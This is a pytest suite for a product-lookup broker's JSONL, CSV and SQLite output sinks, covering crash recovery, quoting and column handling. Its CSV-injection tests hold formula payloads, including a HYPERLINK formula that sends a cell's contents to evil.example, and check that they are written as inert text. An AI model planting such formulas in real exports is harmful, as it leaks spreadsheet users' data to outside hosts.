"""Tests for broker.jobs.sinks: output rows, the JSONL/CSV/SQLite sinks and the invalid report.

Crash cases of reliability.md section 3.3 are marked in the test names (A5, A7). Sinks are
driven the way the runner drives them: open with the ledger's state, emit
``done_rows_after`` of the state ``open`` returned, flush, record.
"""

from __future__ import annotations

import asyncio
import csv
import errno
import io
import json
import os
import sqlite3
import stat
import threading
from datetime import UTC, datetime
from pathlib import Path

import pytest
from conftest import FullAtCheckpoint, sqlite_db
from structlog.testing import capture_logs

from broker.errors import JobFileError
from broker.jobs import sinks
from broker.jobs.ledger import DoneRow, Ledger, Lookup, SinkState
from broker.jobs.sinks import (
    CSV_COLUMNS,
    CsvSink,
    InvalidReport,
    JsonlSink,
    ResultSink,
    SqliteSink,
    json_lines,
    open_sink,
    output_row,
)
from broker.jobs.sources import JobFingerprint, JobRow
from broker.models import ErrorDetail, ItemResult, ItemSummary, Status

US = "www.amazon.com"
FP = JobFingerprint(Path("/jobs/job.csv"), 10, 1, "f" * 64)
FORMATS = ("jsonl", "csv", "sqlite")
IMAGE = "https://m.media-amazon.com/images/I/41cNJGm9ZFL._SL160_.jpg"


def asin(i: int) -> str:
    """A well-formed ASIN for index ``i``."""
    return f"B{i:09d}"


def result(lookup: Lookup) -> ItemResult:
    """An ok result for ``lookup``, except ASINs ending in 3, which are not found."""
    if lookup.asin.endswith("3"):
        return ItemResult(
            lookup.asin,
            lookup.marketplace,
            Status.NOT_FOUND,
            error=ErrorDetail("ItemNotAccessible", 'not, "found"', "check the ASIN"),
            attempts=2,
            key="main",
            fetched_at=datetime(2026, 3, 1, tzinfo=UTC),
        )
    return ItemResult(
        lookup.asin,
        lookup.marketplace,
        Status.OK,
        item={"asin": lookup.asin, "itemInfo": {"title": {"displayValue": "Thé «vert»"}}},
        summary=ItemSummary(
            title="Thé, «vert»", price=4.5, currency="EUR", availability="In", image_url=IMAGE
        ),
        attempts=1,
        key="main",
        fetched_at=datetime(2026, 3, 1, 9, 30, tzinfo=UTC),
    )


def _umask() -> int:
    """This process's umask (read by setting it and putting it back)."""
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def make_ledger(tmp_path: Path, count: int = 10) -> Ledger:
    """A ledger of ``count`` rows (every 5th invalid, one with a multi-line id), all final."""
    rows = []
    for i in range(count):
        if i % 5 == 4:
            raw = 'bad "id"\nsecond line' if i == 4 else f"bad{i}"
            rows.append(JobRow(i + 1, raw, None, error=f"not an ASIN: {raw!r}"))
        else:
            rows.append(JobRow(i + 1, asin(i), asin(i), extra={"sku": f"S{i}"} if i == 1 else None))
    ledger = Ledger.open(
        tmp_path / "job.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
    )
    ledger.ingest(rows)
    ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
    return ledger


def emit(ledger: Ledger, sink: ResultSink, *, batch: int = 3) -> SinkState:
    """Open ``sink`` from the ledger's state and write every missing row, as the runner does."""
    state = sink.open(ledger.sink_state("out"), ledger.last_output_row("out"))
    ledger.set_sink_state("out", state)
    while rows := ledger.done_rows_after(state.done_order, limit=batch):
        sink.write(rows)
        state = sink.flush()
        ledger.set_sink_state("out", state)
    return state


def emit_closed(ledger: Ledger, sink: ResultSink, *, batch: int = 3) -> SinkState:
    """:func:`emit`, then close ``sink``, as the runner does at the end of a run."""
    try:
        return emit(ledger, sink, batch=batch)
    finally:
        sink.close()


def expected_lines(ledger: Ledger) -> list[dict[str, object]]:
    """Every output row the job should produce, in done_order."""
    return [output_row(row) for row in ledger.done_rows_after(0, limit=10_000)]


def jsonl(path: Path) -> list[dict[str, object]]:
    """Parse a JSONL file strictly: every line complete and an object."""
    data = path.read_bytes()
    assert data == b"" or data.endswith(b"\n")
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


class TestOutputRow:
    def test_ok_row_has_the_documented_keys(self, tmp_path: Path) -> None:
        """An ok row carries line, input, item, summary, attempts, key and fetched_at."""
        with make_ledger(tmp_path) as ledger:
            row = ledger.done_rows_after(0)[2]  # line 1: the first valid row
        out = output_row(row)
        assert list(out) == [
            "line",
            "input",
            "asin",
            "marketplace",
            "status",
            "item",
            "summary",
            "error",
            "attempts",
            "key",
            "fetched_at",
            "cached",
        ]
        assert out["cached"] is False
        assert out["line"] == 1
        assert out["input"] == asin(0)
        assert out["asin"] == asin(0)
        assert out["status"] == "ok"
        assert out["error"] is None
        assert out["fetched_at"] == "2026-03-01T09:30:00.000Z"
        assert out["summary"] == result(Lookup(US, asin(0))).to_json()["summary"]

    def test_invalid_row(self, tmp_path: Path) -> None:
        """An input row with a bad id: asin null, InvalidAsin with the reason, 0 attempts."""
        with make_ledger(tmp_path) as ledger:
            row = ledger.done_rows_after(0)[0]
        out = output_row(row)
        assert out["line"] == 5
        assert out["input"] == 'bad "id"\nsecond line'
        assert out["asin"] is None
        assert out["status"] == "invalid"
        assert out["error"] == {
            "code": "InvalidAsin",
            "message": "not an ASIN: 'bad \"id\"\\nsecond line'",
            "remedy": "Fix the id: an ASIN is 10 letters or digits (an ISBN-10 for books).",
        }
        assert (out["attempts"], out["key"], out["fetched_at"], out["item"]) == (
            0,
            None,
            None,
            None,
        )
        assert "extra" not in out

    def test_extra_only_when_the_input_had_it(self, tmp_path: Path) -> None:
        """Extra input columns appear under "extra", and only on rows that had them."""
        with make_ledger(tmp_path) as ledger:
            outs = expected_lines(ledger)
        with_extra = [out for out in outs if "extra" in out]
        assert [(out["line"], out["extra"]) for out in with_extra] == [(2, {"sku": "S1"})]


class TestJsonlSink:
    def test_format(self, tmp_path: Path) -> None:
        """UTF-8 without BOM, compact objects, one per line, every row once, mode by umask."""
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(out)
            state = emit(ledger, sink)
            sink.close()
            expected = expected_lines(ledger)
        data = out.read_bytes()
        assert not data.startswith(b"\xef\xbb\xbf")
        assert "Thé «vert»".encode() in data
        assert b'{"line":1,"input":"B000000000",' in data
        assert jsonl(out) == expected
        assert state == SinkState(len(data), 10)
        assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~_umask()

    def test_an_older_brokers_rows_are_written_again_with_this_versions_fields(
        self, tmp_path: Path
    ) -> None:
        """A JSON Lines output an older broker began (rows without cached and
        summary.image_url), resumed: written again in full from the ledger, every row with
        the same fields, said by broker.output_rewritten; it appended, one output holding
        rows of two shapes (CSV and SQLite outputs were already written again)."""
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(out)
            state = emit(ledger, sink)
            sink.close()
            older = []
            for row in jsonl(out):
                del row["cached"]
                if isinstance(row["summary"], dict):
                    del row["summary"]["image_url"]
                older.append(json.dumps(row) + "\n")
            out.write_text("".join(older))
            with capture_logs() as logs:
                sink = JsonlSink(out)
                resumed = sink.open(SinkState(out.stat().st_size, state.done_order))
                sink.close()
            assert resumed == SinkState(0, 0)
            assert [e["event"] for e in logs] == ["broker.output_rewritten"]
            emit_closed(ledger, JsonlSink(out))
            assert jsonl(out) == expected_lines(ledger)

    @pytest.mark.parametrize("fmt", ["jsonl", "csv", "sqlite"])
    def test_group_reads_the_output_under_the_units_umask(self, tmp_path: Path, fmt: str) -> None:
        """Under the systemd unit's UMask=0027 every output format is 0640: the spool's group
        (the producers) can read its results, others cannot; the ledger stays 0600."""
        out = tmp_path / f"out.{fmt}"
        previous = os.umask(0o027)
        try:
            with make_ledger(tmp_path) as ledger:
                sink = open_sink(fmt, out)
                emit(ledger, sink)
                sink.close()
        finally:
            os.umask(previous)
        assert stat.S_IMODE(out.stat().st_mode) == 0o640
        assert stat.S_IMODE((tmp_path / "job.ledger").stat().st_mode) == 0o600

    def test_a5_torn_tail_is_cut_and_rows_land_once(self, tmp_path: Path) -> None:
        """A5: rows written after the last recorded flush plus half a line are cut off."""
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(out)
            state = sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=4))
            ledger.set_sink_state("out", sink.flush())
            # Unrecorded rows, then a crash in the middle of a line.
            sink.write(ledger.done_rows_after(4, limit=3))
            sink.flush()
            sink.close()
            with open(out, "ab") as stream:
                stream.write(b'{"line":9,"input":"B0000')
            recorded = ledger.sink_state("out")
            state = emit_closed(ledger, JsonlSink(out))
            expected = expected_lines(ledger)
        assert recorded.done_order == 4
        assert jsonl(out) == expected
        assert state.offset == out.stat().st_size

    @pytest.mark.parametrize("fmt", ["jsonl", "csv"])
    def test_a5_a_cut_with_nothing_left_to_write_is_noticed(self, tmp_path: Path, fmt: str) -> None:
        """A cut after the last write, then a flush with nothing buffered (the run's last):
        an OSError, not an offset recorded that the file no longer has."""
        out = tmp_path / f"out.{fmt}"
        with make_ledger(tmp_path) as ledger:
            sink = open_sink(fmt, out)
            sink.open(ledger.sink_state("out"))
            sink.write(ledger.done_rows_after(0, limit=4))
            sink.flush()
            os.truncate(out, 0)
            with pytest.raises(OSError, match="cut"):
                sink.flush()
            sink.close()

    @pytest.mark.parametrize("fmt", ["jsonl", "csv"])
    @pytest.mark.parametrize("damage", ["cut", "deleted"])
    def test_a5_output_damaged_while_the_run_writes_is_noticed(
        self, tmp_path: Path, fmt: str, damage: str
    ) -> None:
        """A5 while running: the output cut (a NUL-filled hole and lost rows, exit 0) or
        deleted under the run is noticed at the next flush, an OSError naming it, and the
        next open writes it again from the ledger, every row once."""
        out = tmp_path / f"out.{fmt}"
        with make_ledger(tmp_path) as ledger:
            sink = open_sink(fmt, out)
            state = sink.open(ledger.sink_state("out"))
            sink.write(ledger.done_rows_after(0, limit=4))
            ledger.set_sink_state("out", sink.flush())
            if damage == "cut":
                os.truncate(out, out.stat().st_size // 2)
            else:
                out.unlink()
            sink.write(ledger.done_rows_after(4, limit=3))
            with pytest.raises(OSError, match=str(out)) as caught:
                sink.flush()
            assert ("cut" if damage == "cut" else "deleted") in str(caught.value)
            sink.close()
            state = emit_closed(ledger, open_sink(fmt, out))
            expected = expected_lines(ledger)
        assert b"\0" not in out.read_bytes()
        if fmt == "jsonl":
            assert jsonl(out) == expected
        else:
            assert [int(r["line"]) for r in csv_records(out)] == [e["line"] for e in expected]
        assert state.offset == out.stat().st_size

    def test_a5_file_cut_by_hand_is_refilled_exactly_once(self, tmp_path: Path) -> None:
        """A5: a file shorter than recorded is written again from the ledger, every row once."""
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(out)
            emit(ledger, sink)
            sink.close()
            original = out.read_bytes()
            lines = original.split(b"\n")
            cut = len(b"\n".join(lines[:6])) + 1 + len(lines[6]) // 2  # mid-way through row 7
            out.write_bytes(original[:cut])
            sink = JsonlSink(out)
            resumed = sink.open(ledger.sink_state("out"))
            assert resumed == SinkState()  # which rows the rest holds cannot be known
            sink.close()
            emit_closed(ledger, JsonlSink(out))
        assert out.read_bytes() == original

    def test_deleted_file_is_rewritten(self, tmp_path: Path) -> None:
        """A deleted output is written again in full from the ledger."""
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, JsonlSink(out))
            original = out.read_bytes()
            out.unlink()
            emit_closed(ledger, JsonlSink(out))
        assert out.read_bytes() == original

    def test_fresh_state_empties_an_old_file(self, tmp_path: Path) -> None:
        """State (0, 0) (a new ledger or --new-job) starts the output from empty."""
        out = tmp_path / "out.jsonl"
        out.write_text('{"line":1}\n{"line":2}\n')
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, JsonlSink(out))
            assert jsonl(out) == expected_lines(ledger)

    def test_rows_out_of_sequence_are_refused(self, tmp_path: Path) -> None:
        """A gap in done_order is refused, since resume counts rows to find done_order."""
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(tmp_path / "out.jsonl")
            sink.open(SinkState())
            with pytest.raises(ValueError, match="done_order 3 written where 1 was due"):
                sink.write(ledger.done_rows_after(2, limit=2))
            sink.close()

    def test_a_failed_write_names_the_output(self, tmp_path: Path) -> None:
        """A write the system refuses (a full disk, here a pipe nobody reads) raises an
        OSError naming the output, so the run's message says which file."""
        reader, writer = os.pipe()
        os.close(reader)
        try:
            with pytest.raises(BrokenPipeError) as caught:
                sinks._write_all(writer, b"row\n", tmp_path / "out.csv")
        finally:
            os.close(writer)
        assert caught.value.filename == str(tmp_path / "out.csv")
        assert str(tmp_path / "out.csv") in str(caught.value)

    def test_a7_disk_full_leaves_state_unadvanced(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A7: ENOSPC mid-write raises OSError, the recorded state stays put, the part of the
        failed write that reached the disk is cut off (the file ends on a whole row for a
        reader before any rerun), and resume completes."""
        out = tmp_path / "out.jsonl"
        real_write_all = sinks._write_all

        def half_then_full(fd: int, data: bytes, path: Path) -> None:
            real_write_all(fd, data[: len(data) // 2], path)
            raise OSError(errno.ENOSPC, "No space left on device")

        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(out)
            sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=4))
            ledger.set_sink_state("out", sink.flush())
            before = ledger.sink_state("out")
            monkeypatch.setattr(sinks, "_write_all", half_then_full)
            with pytest.raises(OSError, match="No space") as caught:
                emit_more(ledger, sink)
            assert caught.value.errno == errno.ENOSPC
            assert ledger.sink_state("out") == before
            assert out.stat().st_size == before.offset
            assert out.read_bytes().endswith(b"\n")
            with pytest.raises(OSError, match="earlier write failed") as again:
                sink.flush()
            assert again.value.errno == errno.ENOSPC
            sink.close()
            monkeypatch.undo()
            emit_closed(ledger, JsonlSink(out))
            assert jsonl(out) == expected_lines(ledger)

    def test_a7_fsync_failure_leaves_state_unadvanced(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A7: a failing fsync raises OSError and returns no new state."""
        with make_ledger(tmp_path) as ledger:
            sink = JsonlSink(tmp_path / "out.jsonl")
            sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=4))

            def fails(fd: int) -> None:
                raise OSError(errno.EIO, "Input/output error")

            monkeypatch.setattr(os, "fsync", fails)
            with pytest.raises(OSError, match="Input/output"):
                sink.flush()
            monkeypatch.undo()
            with pytest.raises(OSError, match="earlier write failed"):
                sink.write(ledger.done_rows_after(4, limit=1))
            sink.close()


def emit_more(ledger: Ledger, sink: ResultSink) -> None:
    """Continue an open sink from the ledger's recorded state, recording after each flush."""
    state = ledger.sink_state("out")
    while rows := ledger.done_rows_after(state.done_order, limit=3):
        sink.write(rows)
        state = sink.flush()
        ledger.set_sink_state("out", state)


class TestAnOutputEditedByHand:
    """An output changed before its recorded end is written again, never cut mid-row."""

    @pytest.mark.parametrize("fmt", ["jsonl", "csv"])
    @pytest.mark.parametrize("grown", [10, 1])
    def test_a_cell_made_longer_is_not_cut_into(self, tmp_path: Path, fmt: str, grown: int) -> None:
        """One cell of a finished output made longer by hand: the file is as long as recorded
        or longer, which read as a torn tail, and the cut at the recorded offset took the
        last row's end off (a rerun of a complete job "fetched nothing" and broke it).
        It is written again from the ledger, every row once, and says why."""
        out = tmp_path / f"out.{fmt}"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, open_sink(fmt, out))
            before = out.read_bytes()
            edited = before.replace(b"B000000000", b"B000000000" + b"x" * grown, 1)
            assert edited != before
            out.write_bytes(edited)
            with capture_logs() as logs:
                state = emit_closed(ledger, open_sink(fmt, out))
        assert out.read_bytes() == before
        assert state.offset == len(before)
        assert [e["event"] for e in logs if e["log_level"] == "warning"] == [
            "broker.output_changed"
        ]

    @pytest.mark.parametrize("fmt", ["jsonl", "csv"])
    def test_an_intact_output_with_a_torn_tail_is_only_cut(self, tmp_path: Path, fmt: str) -> None:
        """The check looks at the recorded last row: an untouched output with half a row
        after it (a crash) is cut back as before, with nothing written again."""
        out = tmp_path / f"out.{fmt}"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, open_sink(fmt, out))
            before = out.read_bytes()
            with open(out, "ab") as stream:
                stream.write(b'{"line":9,"inp')
            with capture_logs() as logs:
                emit_closed(ledger, open_sink(fmt, out))
        assert out.read_bytes() == before
        assert [e for e in logs if e["log_level"] == "warning"] == []


class TestCsvSink:
    def test_resumed_output_reads_a_column_name_holding_a_line_break(self, tmp_path: Path) -> None:
        """A pass-through column named across two lines (an Excel header wrapped with
        Alt+Enter) is read back whole from the header when the output resumes, so the rows
        written after the resume keep every cell in its column."""
        out = tmp_path / "out.csv"
        names = ("multi\nline", "tag")
        with make_ledger(tmp_path) as ledger:
            sink = CsvSink(out, names)
            state = sink.open(ledger.sink_state("out"))
            rows = ledger.done_rows_after(0, limit=4)
            sink.write(rows)
            state = sink.flush()
            ledger.set_sink_state("out", state)
            sink.close()
            resumed = CsvSink(out)
            resumed.open(state)
            emit_more(ledger, resumed)
            resumed.close()
        with out.open(newline="", encoding="utf-8") as handle:
            table = list(csv.reader(handle))
        assert table[0][-3:] == [*names, "sku"]
        assert {len(row) for row in table} == {len(table[0])}

    def test_header_and_quoting(self, tmp_path: Path) -> None:
        """Fixed header, RFC 4180 quoting of commas, quotes and line breaks; parses back."""
        out = tmp_path / "out.csv"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, CsvSink(out))
        data = out.read_bytes()
        assert data.startswith(
            b"line,input,asin,marketplace,status,title,price,currency,availability,"
            b"detail_url,image_url,error_code,error_message,attempts,key,fetched_at,cached\r\n"
        )
        assert b'"bad ""id""\nsecond line"' in data
        records = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert len(records) == 10
        by_line = {int(r["line"]): r for r in records}
        assert by_line[1]["title"] == "Thé, «vert»"
        assert by_line[1]["price"] == "4.5"
        assert by_line[4]["status"] == "not_found"
        assert by_line[4]["error_message"] == 'not, "found"'
        assert by_line[5]["input"] == 'bad "id"\nsecond line'
        assert by_line[5]["error_code"] == "InvalidAsin"
        assert by_line[5]["asin"] == ""
        assert {r["cached"] for r in records} == {"false"}  # as JSON spells it, not "False"
        assert list(records[0]) == list(CSV_COLUMNS)

    def test_a5_cut_inside_a_quoted_multiline_cell(self, tmp_path: Path) -> None:
        """A5: a CSV cut inside a quoted cell that spans lines resumes on record boundaries."""
        out = tmp_path / "out.csv"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, CsvSink(out))
            original = out.read_bytes()
            # Cut right after the line break inside row 1's quoted input cell.
            out.write_bytes(original[: original.index(b"second line")])
            sink = CsvSink(out)
            resumed = sink.open(ledger.sink_state("out"))
            sink.close()
            assert resumed.done_order == 0  # only the header was complete
            emit_closed(ledger, CsvSink(out))
        assert out.read_bytes() == original

    def test_an_older_brokers_columns_are_written_again_under_ours(self, tmp_path: Path) -> None:
        """A CSV an older broker began under other columns (no image_url, no cached) is
        written again from the ledger under this broker's header when the job resumes: its
        rows were appended under the old header, every cell from error_code on under the
        wrong name, and the run said ok."""
        out = tmp_path / "out.csv"
        with make_ledger(tmp_path) as ledger:
            emit_closed(ledger, CsvSink(out))
            original = out.read_bytes()
            dropped = {CSV_COLUMNS.index("image_url"), CSV_COLUMNS.index("cached")}
            table = list(csv.reader(io.StringIO(original.decode("utf-8"), newline="")))
            older = io.StringIO()
            writer = csv.writer(older, lineterminator="\r\n")
            for record in table[:6]:  # the header and the first five rows, as it left them
                writer.writerow([cell for i, cell in enumerate(record) if i not in dropped])
            out.write_bytes(older.getvalue().encode("utf-8"))
            ledger.set_sink_state("out", SinkState(out.stat().st_size, 5))
            sink = CsvSink(out)
            resumed = sink.open(ledger.sink_state("out"))
            sink.close()
            assert resumed.done_order == 0
            emit_closed(ledger, CsvSink(out))
        assert out.read_bytes() == original

    def test_empty_job_still_has_a_header(self, tmp_path: Path) -> None:
        """A CSV sink writes its header at open, so even a job with no rows has one."""
        out = tmp_path / "out.csv"
        sink = CsvSink(out)
        state = sink.open(SinkState())
        sink.close()
        assert out.read_bytes() == (",".join(CSV_COLUMNS) + "\r\n").encode()
        assert state == SinkState(out.stat().st_size, 0)


def csv_job_ledger(tmp_path: Path, count: int = 6) -> Ledger:
    """A CSV job's ledger: every row has the pass-through columns sku and title."""
    rows = [
        JobRow(i + 1, asin(i), asin(i), extra={"sku": f"S{i}", "title": f"mine {i}"})
        if i != 2
        else JobRow(3, "nope", None, extra={"sku": "S2", "title": ""}, error="not an ASIN")
        for i in range(count)
    ]
    ledger = Ledger.open(
        tmp_path / "csvjob.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
    )
    ledger.ingest(rows)
    ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
    return ledger


def csv_records(path: Path) -> list[dict[str, str]]:
    """The CSV output as dicts, header names as keys."""
    data = path.read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(data, newline="")))


class TestCsvPassThrough:
    def test_input_columns_follow_ours(self, tmp_path: Path) -> None:
        """A CSV job's extra columns follow ours; one that clashes gets an input_ prefix."""
        out = tmp_path / "out.csv"
        with csv_job_ledger(tmp_path) as ledger:
            emit_closed(ledger, CsvSink(out), batch=2)
        header = out.read_bytes().split(b"\r\n")[0].decode().split(",")
        assert header == [*CSV_COLUMNS, "sku", "input_title"]
        records = {int(r["line"]): r for r in csv_records(out)}
        assert len(records) == 6
        assert records[1]["sku"] == "S0"
        assert records[1]["input_title"] == "mine 0"
        assert records[1]["title"] == "Thé, «vert»"
        assert records[3]["status"] == "invalid"
        assert records[3]["sku"] == "S2"

    def test_a_cell_starting_like_a_formula_is_written_as_text(self, tmp_path: Path) -> None:
        """A cell a spreadsheet would run as a formula (=, +, -, @ first: a seller's title,
        a job's own cell) gets a leading ' so it shows as text; a number is left as it is.
        They were written as they came (OWASP's CSV injection)."""
        rows = [
            JobRow(
                1,
                asin(0),
                asin(0),
                extra={"sku": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "n": "-1.5"},
            ),
            JobRow(2, "@SUM(1)", None, extra={"sku": "+SUM(1)", "n": "+2"}, error="not an ASIN"),
        ]
        ledger = Ledger.open(
            tmp_path / "f.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
        )
        with ledger:
            ledger.ingest(rows)
            ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
            emit_closed(ledger, CsvSink(tmp_path / "out.csv"))
        first, second = sorted(csv_records(tmp_path / "out.csv"), key=lambda r: int(r["line"]))
        assert first["sku"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
        assert first["n"] == "-1.5"
        assert (second["input"], second["sku"], second["n"]) == ("'@SUM(1)", "'+SUM(1)", "+2")

    @pytest.mark.parametrize("text", ["-inf", "-nan", "+Infinity", "-1_000", "-\u0663", "+\uff11"])
    def test_what_only_python_takes_for_a_number_is_written_as_text(self, text: str) -> None:
        """A cell starting with a sign that Python's float() reads and a spreadsheet does
        not (infinity, NaN, underscores, other scripts' digits) gets its ' too: it was left
        bare, a formula error in a spreadsheet and NaN in pandas."""
        from broker.jobs.sinks import _inert

        assert _inert(text) == "'" + text
        assert [_inert(n) for n in ("-1.5", "+2", "-.5", "1e-3", "-2E+4")] == [
            "-1.5",
            "+2",
            "-.5",
            "1e-3",
            "-2E+4",
        ]

    def test_a_column_name_starting_like_a_formula_is_written_as_text(self, tmp_path: Path) -> None:
        """A pass-through column whose name starts like a formula (a third party's job)
        gets a leading ' in the header as a cell does, and a resumed output reads it back
        as its own name (the header was written as it came)."""
        formula = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
        rows = [JobRow(1, asin(0), asin(0), extra={formula: "a", "@SUM(1)": "b", "'q": "c"})]
        out = tmp_path / "out.csv"
        ledger = Ledger.open(
            tmp_path / "f.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
        )
        with ledger:
            ledger.ingest(rows)
            ledger.record_results([(lk, result(lk)) for lk in ledger.pending_lookups()])
            emit_closed(ledger, CsvSink(out))
            header = next(csv.reader(io.StringIO(out.read_bytes().decode(), newline="")))
            assert header[len(CSV_COLUMNS) :] == ["'" + formula, "'@SUM(1)", "''q"]
            assert CsvSink._read_extra(header) == (formula, "@SUM(1)", "'q")
            whole = out.read_bytes()
            emit_closed(ledger, CsvSink(out))
        assert out.read_bytes() == whole

    def test_an_older_brokers_header_with_a_quoted_name_resumes_whole(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """An output an older broker began, its header holding a job's name ``'note`` as it
        came, resumes with that column filled: the name read back as ``note``, and every
        row written after the upgrade left its cell empty."""
        rows = [
            JobRow(n, asin(n), asin(n), extra={"note": f"p{n}", "'note": f"n{n}"})
            for n in range(1, 5)
        ]
        out = tmp_path / "out.csv"
        ledger = Ledger.open(
            tmp_path / "f.ledger", fingerprint=FP, default_marketplace=US, synchronous="NORMAL"
        )
        with ledger:
            ledger.ingest(rows)
            lookups = list(ledger.pending_lookups())
            ledger.record_results([(lk, result(lk)) for lk in lookups[:2]])
            with monkeypatch.context() as older:  # names written as they came
                older.setattr(sinks, "_column_name", lambda name: name)
                emit_closed(ledger, CsvSink(out, ledger.extra_names()))
            assert out.read_bytes().split(b"\r\n")[0].endswith(b",note,'note")
            ledger.record_results([(lk, result(lk)) for lk in lookups[2:]])
            emit_closed(ledger, CsvSink(out, ledger.extra_names()))
        records = csv_records(out)
        assert sorted(r["'note"] for r in records) == ["n1", "n2", "n3", "n4"]
        assert sorted(r["note"] for r in records) == ["p1", "p2", "p3", "p4"]

    @pytest.mark.parametrize(
        ("name", "column"),
        [
            ("Title", "input_Title"),
            ("STATUS", "input_STATUS"),
            ("Input_note", "input_Input_note"),
            ("Titles", "Titles"),
        ],
    )
    def test_a_name_ours_in_another_case_is_prefixed(self, name: str, column: str) -> None:
        """A pass-through column named as ours in another case (Title) is prefixed: SQL
        tools and pandas' to_sql take it for our title (sqlite3's .import renamed both,
        to_sql refused the file). It reads back as itself, as does an older broker's
        unprefixed Title."""
        assert sinks._column_name(name) == column
        assert sinks._input_name(column) == name
        assert CsvSink._read_extra([*CSV_COLUMNS, "Title"]) == ("Title",)

    def test_resume_keeps_the_columns(self, tmp_path: Path) -> None:
        """A resumed output reads its pass-through columns back and writes the same layout."""
        out = tmp_path / "out.csv"
        with csv_job_ledger(tmp_path) as ledger:
            emit_closed(ledger, CsvSink(out))
            whole = out.read_bytes()
            last = whole.rstrip(b"\r\n").rfind(b"\r\n") + 2
            out.write_bytes(whole[:last])  # the last row lost (cut by hand)
            emit_closed(ledger, CsvSink(out))
        assert out.read_bytes() == whole

    def test_crash_before_the_first_flush_starts_over(self, tmp_path: Path) -> None:
        """A crash after the header was rewritten but before a flush leaves a clean restart."""
        out = tmp_path / "out.csv"
        with csv_job_ledger(tmp_path) as ledger:
            sink = CsvSink(out)
            ledger.set_sink_state("out", sink.open(ledger.sink_state("out")))
            sink.write(ledger.done_rows_after(0, limit=2))
            sink.close()  # no flush: the ledger still records the bare header
            emit_closed(ledger, CsvSink(out))
        records = csv_records(out)
        assert sorted(int(r["line"]) for r in records) == list(range(1, 7))
        assert list(records[0])[-2:] == ["sku", "input_title"]

    def test_image_url_column(self, tmp_path: Path) -> None:
        """The summary's image_url fills the CSV image_url column (empty without one)."""
        out = tmp_path / "out.csv"
        with make_ledger(tmp_path, count=4) as ledger:
            emit_closed(ledger, CsvSink(out))
        by_line = {int(r["line"]): r["image_url"] for r in csv_records(out)}
        assert by_line == {1: IMAGE, 2: IMAGE, 3: IMAGE, 4: ""}


def sqlite_rows(path: Path) -> list[tuple[object, ...]]:
    """(seq, line, status, row_json) of the SQLite output, by seq."""
    with sqlite_db(path) as conn:
        found = conn.execute("SELECT seq, line, status, row_json FROM results ORDER BY seq")
        rows = found.fetchall()
    conn.close()
    return rows


def _altered_and_resumed(
    tmp_path: Path, out: Path, *statements: str
) -> tuple[SinkState, list[str]]:
    """Write a whole SQLite output, run ``statements`` on it (a hand's damage, an older
    broker's table), resume it as the runner does; the state and the events logged."""
    with make_ledger(tmp_path) as ledger:
        sink = SqliteSink(out)
        emit(ledger, sink)
        sink.close()
        with sqlite_db(out) as conn:
            for statement in statements:
                conn.execute(statement)
        conn.close()
        with capture_logs() as logs:
            sink = SqliteSink(out)
            state = emit(ledger, sink)
            sink.close()
    return state, [str(e["event"]) for e in logs]


def test_unicode_line_separators_are_escaped_in_json_lines() -> None:
    """U+2028, U+2029 and U+0085 in a title are escaped: a row stays one line for
    str.splitlines, editors and log shippers (3 rows read as 9 lines in a user's job), and
    reads back the same."""
    title = "before\u2028after\u2029para\x85end"
    text = json_lines([{"title": title}, {"title": "plain"}]).decode("utf-8")
    lines = text.splitlines()
    assert len(lines) == 2
    assert json.loads(lines[0]) == {"title": title}


class TestSqliteSink:
    def test_a_viewer_of_a_closed_output_does_not_stop_the_next_run(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A viewer with a closed output open (out of WAL mode) between its queries: the next
        run's open switches back to WAL and writes. One in a transaction held open stops
        the run with a clear error (exit 74: close it and run again), as a writer must wait
        for it outside WAL mode."""
        monkeypatch.setattr(sinks, "_WAL_SWITCH_S", 0.05)  # not a second's wait for it
        monkeypatch.setattr(sinks, "_BUSY_MS", 50)
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            emit(ledger, sink)
            sink.close()
            viewer = sqlite3.connect(out, isolation_level=None)
            try:
                viewer.execute("SELECT count(*) FROM results").fetchone()
                sink = SqliteSink(out)
                assert sink.open(ledger.sink_state("out")) == SinkState(0, 10)
                sink.close()
                viewer.execute("BEGIN")
                viewer.execute("SELECT count(*) FROM results").fetchone()
                with pytest.raises(OSError, match="held by another program"):
                    SqliteSink(out).open(ledger.sink_state("out"))
            finally:
                viewer.close()

